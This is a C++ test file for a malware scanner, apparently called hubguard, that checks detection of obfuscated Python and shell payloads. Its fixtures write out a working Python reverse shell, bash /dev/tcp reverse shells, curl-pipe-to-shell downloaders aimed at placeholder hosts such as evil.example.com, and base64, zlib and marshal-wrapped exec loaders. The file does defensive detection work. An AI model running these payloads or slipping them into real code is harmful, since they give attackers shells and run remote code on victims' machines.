#include "hubguard/scan/code_analysis.hpp"

#include <gtest/gtest.h>
#include <zlib.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "hubguard/scan/behaviour.hpp"
#include "hubguard/scan/decode/base_encodings.hpp"
#include "test_encoders.hpp"

namespace hubguard::scan {
namespace {

using report::Finding;
using report::Verdict;

using hubguard::scan::test::b64;
using hubguard::scan::test::zlib_compress;


std::vector<Finding> analyze(CodeKind kind, std::string text, const ScanOptions& options = {}) {
  CodeEvidence e;
  e.kind = kind;
  e.text = std::move(text);
  e.offset = 42;
  e.via = "builtins.exec argument";
  return analyze_code(e, options);
}

const Finding* with_category(const std::vector<Finding>& fs, std::string_view category) {
  for (const auto& f : fs)
    if (f.category == category) return &f;
  return nullptr;
}

const Finding* with_rule(const std::vector<Finding>& fs, std::string_view rule) {
  for (const auto& f : fs)
    if (f.rule == rule) return &f;
  return nullptr;
}

bool has_indicator(const Finding& f, std::string_view kind, std::string_view value) {
  for (const auto& i : f.indicators)
    if (i.kind == kind && i.value == value) return true;
  return false;
}

Verdict worst(const std::vector<Finding>& fs) {
  Verdict v = Verdict::clean;
  for (const auto& f : fs) v = report::worst(v, f.verdict);
  return v;
}

const std::string kReverseShell =
    "import socket,os,pty\n"
    "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect(('10.66.6.6',4444))\n"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\n"
    "pty.spawn('/bin/sh')\n";

TEST(CodeAnalysis, Base64ZlibWrappedReverseShellIsClassifiedWithItsAddress) {
  const std::string code =
      "import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + b64(zlib_compress(kReverseShell)) + "')))";
  auto findings = analyze(CodeKind::code_string, code);
  const Finding* shell = with_category(findings, "reverse-shell");
  ASSERT_NE(shell, nullptr);
  EXPECT_EQ(shell->verdict, Verdict::malicious);
  EXPECT_TRUE(has_indicator(*shell, "ip", "10.66.6.6"));
  EXPECT_TRUE(has_indicator(*shell, "port", "4444"));
  EXPECT_EQ(shell->location.offset, 42u);
  const Finding* hidden = with_rule(findings, "code.obfuscated-payload");
  ASSERT_NE(hidden, nullptr);
  EXPECT_EQ(hidden->category, "obfuscation");
  EXPECT_NE(hidden->evidence.find("base64 > zlib"), std::string::npos) << hidden->evidence;
}

TEST(CodeAnalysis, ShellCommandDownloaderAndPythonDashC) {
  auto dl = analyze(CodeKind::shell_command, "curl -s http://203.0.113.5/i.sh | bash");
  const Finding* f = with_category(dl, "downloader");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(has_indicator(*f, "url", "http://203.0.113.5/i.sh"));

  const std::string inner = "import os; os.system(\"bash -i >& /dev/tcp/10.1.1.1/9001 0>&1\")";
  auto py = analyze(CodeKind::shell_command, "python3 -c '" + inner + "'");
  const Finding* r = with_category(py, "reverse-shell");
  ASSERT_NE(r, nullptr);
  EXPECT_TRUE(has_indicator(*r, "ip", "10.1.1.1"));
}

TEST(CodeAnalysis, EchoBase64PipeShellIsDecoded) {
  const std::string cmd = "echo " + b64("wget http://x.example.com/m -O /tmp/m; chmod +x /tmp/m; /tmp/m") +
                          " | base64 -d | sh";
  auto findings = analyze(CodeKind::shell_command, cmd);
  EXPECT_NE(with_category(findings, "downloader"), nullptr);
  EXPECT_NE(with_rule(findings, "code.obfuscated-payload"), nullptr);
}

TEST(CodeAnalysis, MarshalPayloadInsideBase64IsDisassembled) {
  std::ifstream in(std::string(HUBGUARD_FIXTURES) + "/marshal/reverse_shell_function.bin", std::ios::binary);
  std::ostringstream bytes;
  bytes << in.rdbuf();
  const std::string code = "import marshal,base64\nexec(marshal.loads(base64.b64decode('" + b64(bytes.str()) + "')))";
  auto findings = analyze(CodeKind::code_string, code);
  const Finding* shell = with_category(findings, "reverse-shell");
  ASSERT_NE(shell, nullptr);
  EXPECT_TRUE(has_indicator(*shell, "ip", "10.13.37.1"));
}

TEST(CodeAnalysis, BytecodeEvidenceOfARemoteDownloader) {
  auto findings = analyze(CodeKind::bytecode,
                          "def _lambda_(x):\n    return __import__('os').system('curl http://evil.example.com/s.sh | sh')\n");
  EXPECT_NE(with_category(findings, "downloader"), nullptr);
}

TEST(CodeAnalysis, HarmlessCodeStringsStayQuiet) {
  for (const char* code : {"print('hello world')", "x = 1 + 2", "import json; json.loads('{}')",
                           "torch.nn.Linear(3, 4)"}) {
    auto findings = analyze(CodeKind::code_string, code);
    EXPECT_LT(worst(findings), Verdict::dangerous) << code;
    EXPECT_EQ(with_category(findings, "obfuscation"), nullptr) << code;
  }
  auto tar = analyze(CodeKind::shell_command, "tar xzf data.tar.gz -C ./data");
  EXPECT_LT(worst(tar), Verdict::dangerous);
}

TEST(CodeAnalysis, DuplicateRuleHitsAcrossLayersAreMerged) {
  std::string code = "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1";
  for (int i = 0; i < 3; ++i) code = "exec(base64.b64decode('" + b64(code) + "'))";
  auto findings = analyze(CodeKind::code_string, code);
  int dev_tcp = 0;
  for (const auto& f : findings) dev_tcp += f.rule == "yara.reverse_shell_dev_tcp";
  EXPECT_EQ(dev_tcp, 1);
}

TEST(CodeAnalysis, UserRulesApplyToDecodedLayers) {
  auto dir = std::filesystem::temp_directory_path() / "hubguard_code_analysis_user_rules";
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "canary.yar") << "rule canary { meta: category = \"code-execution\" verdict = \"dangerous\" "
                                       "strings: $a = \"CANARY-77\" condition: $a }";
  ScanOptions options;
  options.rules_dir = dir.string();
  auto findings = analyze(CodeKind::code_string, "exec(base64.b64decode('" + b64("print('CANARY-77')") + "'))", options);
  bool found = false;
  for (const auto& f : findings) found |= f.rule == "yara.user.canary" && f.verdict == Verdict::dangerous;
  EXPECT_TRUE(found);
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace hubguard::scan
